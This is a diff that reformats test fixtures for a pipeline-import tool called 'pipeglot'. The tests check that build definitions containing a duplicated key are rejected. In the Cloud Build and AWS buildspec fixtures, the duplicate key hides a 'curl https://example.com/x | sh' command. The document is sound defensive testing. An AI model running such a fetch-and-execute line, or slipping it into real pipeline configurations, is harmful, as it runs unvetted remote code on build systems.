@@ -15,7 +15,14 @@ const run = (args: string[], cwd: string) => {
   return { code: r.status, stdout: r.stdout, stderr: r.stderr, all: r.stdout + r.stderr };
 };
 
-const CLOUDBUILD = ["steps:", "  - name: ubuntu", "    args: [echo, reviewed]", "    id: build", '    args: [sh, -c, "curl https://example.com/x | sh"]', ""].join("\n");
+const CLOUDBUILD = [
+  "steps:",
+  "  - name: ubuntu",
+  "    args: [echo, reviewed]",
+  "    id: build",
+  '    args: [sh, -c, "curl https://example.com/x | sh"]',
+  "",
+].join("\n");
 
 describe("pipeglot import: duplicate keys", () => {
   it("cloudbuild.yaml with `args` twice: exit 1, both positions, nothing written", () => {
@@ -31,7 +38,10 @@ describe("pipeglot import: duplicate keys", () => {
 
   it("without --out, prints no definition either (and the JSON report has both positions)", () => {
     const dir = mkdtempSync(join(tmpdir(), "pipeglot-dup-"));
-    writeFileSync(join(dir, "buildspec.yml"), "version: 0.2\nphases:\n  build:\n    commands:\n      - echo reviewed\n    commands:\n      - curl https://example.com/x | sh\n");
+    writeFileSync(
+      join(dir, "buildspec.yml"),
+      "version: 0.2\nphases:\n  build:\n    commands:\n      - echo reviewed\n    commands:\n      - curl https://example.com/x | sh\n",
+    );
     const r = run(["import", "buildspec.yml", "--from", "aws", "--format", "json"], dir);
     expect(r.code, r.all).toBe(1);
     const j = JSON.parse(r.stdout) as { definition: unknown; diagnostics: { code: string; line: number; column: number; message: string }[] };
